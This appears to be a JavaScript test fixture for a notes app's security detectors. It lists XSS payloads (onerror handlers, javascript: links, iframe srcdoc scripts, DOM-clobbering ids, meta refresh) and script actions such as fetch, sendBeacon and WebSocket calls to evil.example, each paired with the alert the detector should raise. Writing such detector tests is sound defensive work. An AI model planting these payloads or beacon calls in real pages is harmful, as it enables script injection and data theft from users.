// Proofs that each detector sees what it is for: real payloads, put into a page by script, and what must be seen of them.
import { VECTORS } from './library.mjs';

const ran = (number) => new RegExp(`${VECTORS[number].name}: pwned`);

/** Markup put into the notes: `[markup, what is seen, what is done with it]`. */
export const MARKUP = {
  'an image that fails': ['<img src=x: onerror=pwned(1)>', ran(1)],
  'a handler that waits': ['<b onclick=1>x</b>', /handler: <b/],
  'a foreign attribute': ['<p title=x>x</p>', /attribute title: <p/],
  'a frame of its own text': ['<iframe srcdoc="<script>parent.pwned(2)</script>"></iframe>', ran(2)],
  'a frame of its own text, seen': ['<iframe srcdoc="x"></iframe>', /never: <iframe/],
  'a frame with a script for its address': ['<iframe src="javascript:parent.pwned(3)"></iframe>', ran(3)],
  'a window of a frame': ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', /alert 1/],
  'a link to a script': ['<a id=n-l href="javascript:pwned(4)">x</a>', ran(4), () => document.getElementById('n-l').click()],
  'a link to a script, seen': ['<a href=" java&#9;script:pwned(4)">x</a>', /scheme: <a/],
  'a link to data': ['<a href="data:text/html,x">x</a>', /scheme: <a/],
  'a link with a control character': ['<a href="https://good.example/&#1;" target=_blank rel="noopener noreferrer">x</a>', /control character/],
  'a link that opens a window': ['<a id=n-l href="https://evil.example/" target=_blank>x</a>', /: window/, () => document.getElementById('n-l').click()],
  'a link that can reach back': ['<a href="https://evil.example/">x</a>', /opener: <a/],
  'a link that pings': ['<a href="x" ping="https://evil.example/">x</a>', /never: <a/],
  'a host that is another': [
    '<a class=chip href="https://evil.example/" target=_blank rel="noopener noreferrer"><span class=chip-host>youtube.com</span></a>',
    /host: <a/,
  ],
  'a deck whose host is another': [
    '<figure class=embed data-host=youtube.com><figcaption><a class="chip chip-slides" href="https://evil.example/" target=_blank rel="noopener noreferrer">판 · youtube.com</a></figcaption></figure>',
    /host: <a/,
  ],
  'a player whose host is another': [
    '<figure class=embed data-embed="https://player.vimeo.com/video/1"><button type=button class=embed-load>여기서 보기 · youtube.com</button></figure>',
    /host: <button/,
  ],
  'an image whose host is another': [
    '<figure class="image image-held"><button type=button class=image-load data-src="https://evil.example/p.png" data-alt=x><span class=image-alt>x</span> <span class=image-action>그림 불러오기 · good.example</span></button></figure>',
    /host: <button/,
  ],
  'a way out of an image whose host is another': [
    '<figure class=image><figcaption><a href="https://evil.example/" target=_blank rel="noopener noreferrer">good.example</a></figcaption></figure>',
    /host: <a/,
  ],
  'a foreign image': ['<img src="https://evil.example/p.png" alt="">', /asked https:\/\/evil\.example\/p\.png/],
  'a style sheet': ['<style>@import "https://evil.example/x.css"</style>', /asked https:\/\/evil\.example\/x\.css/],
  'a style sheet, seen': ['<style>x{}</style>', /never: <style/],
  'a style': ['<p style="color:red">x</p>', /never: <p/],
  'a cover': ['<p style="position:fixed">x</p>', /overlay: <p/],
  'a class of the app': ['<p class=panic>x</p>', /class: <p/],
  'foreign markup': ['<svg><a/></svg>', /element: <svg/],
  'a form': ['<form><input name=x></form>', /never: <form.*not itself: document.forms/s],
  'a form that is sent': ['<form id=n-f action="/x"></form>', /requestSubmit/, () => document.getElementById('n-f').requestSubmit()],
  'a base': ['<base href="https://evil.example/">', /not itself: document.baseURI/],
  'a template': ['<template>x</template>', /never: <template/],
  'a refresh': ['<meta http-equiv=refresh content="0;url=https://evil.example/">', /away https:\/\/evil/],
  'a name of the document': ['<img name=body alt="">', /clobbers: body/],
  'a name of every object': ['<p id=n-x></p><p id=constructor></p>', /clobbers: constructor/],
  'an id of the app': ['<p id=main></p>', /id: <p id="main"[^]*id twice: main/],
  'a frame of an unknown site': [
    '<figure class=embed><iframe src="https://www.youtube.com.evil.example/embed/x"></iframe></figure>',
    /player: <iframe[^]*sandbox: <iframe/,
  ],
  'a handler of the pointer': ['<p onpointerover=pwned(5)>x</p>', ran(5), 'tease'],
  'a handler of the focus': ['<p tabindex=0 onfocus=pwned(6)>x</p>', ran(6), 'tease'],
  'a handler of an animation': ['<p onanimationstart=pwned(7)>x</p>', ran(7), 'tease'],
  'a handler of a click': ['<b onclick=pwned(8)>x</b>', ran(8), 'tease'],
  'a handler under the real pointer': ['<p onmousemove=pwned(9)>x</p>', ran(9), 'touch'],
  'a handler at the real keyboard': ['<p tabindex=1 onfocus=pwned(10)>x</p>', ran(10), 'touch'],
};

/** Deeds of a script, and what is seen of them. */
export const DEEDS = {
  'a script': [() => document.body.append(Object.assign(document.createElement('script'), { text: 'pwned(1)' })), ran(1)],
  'a window': [() => alert('x'), /alert x/],
  'a question': [() => prompt('x'), /prompt x/],
  'another window': [() => void open('https://evil.example/'), /open https:\/\/evil/],
  'a text as a script': [() => void setTimeout('pwned(2)'), /setTimeout/],
  'writing': [() => document.write('x'), /write x/],
  'a beacon': [() => navigator.sendBeacon('https://evil.example/', 'x'), /sendBeacon/],
  'a request': [() => void fetch('https://evil.example/x').catch(() => {}), /asked https:\/\/evil\.example\/x/],
  'a socket': [() => void new WebSocket('wss://evil.example/'), /socket wss/],
  'a worker': [() => void new Worker(URL.createObjectURL(new Blob(['1']))), /worker blob/],
  'a download': [() => Object.assign(document.createElement('a'), { href: 'data:,x', download: 'x' }).click(), /download/],
  'a way out': [() => void (location.href = 'https://evil.example/'), /away https:\/\/evil/],
  'loading again': [() => location.reload(), /loaded again/],
  'a frame': [() => document.body.append(document.createElement('iframe')), /frames 1[^]*around the notes/],
  'a shadow': [() => document.querySelector('article').attachShadow({ mode: 'open' }), /shadow: <article/],
  'a prototype': [() => void (Object.prototype.polluted = 1), /not itself: Object.prototype/],
  'a name': [() => void (window.name = 'x'), /not itself: window.name/],
  'a lost text': [() => document.querySelector('main h1').remove(), /lost: /],
  'a hidden text': [() => (document.querySelector('main h1').hidden = true), /lost: /],
  'a cover around': [() => document.body.append(document.createElement('dialog')), /around the notes/],
  'a sheet around': [() => document.head.append(document.createElement('style')), /around the notes/],
};
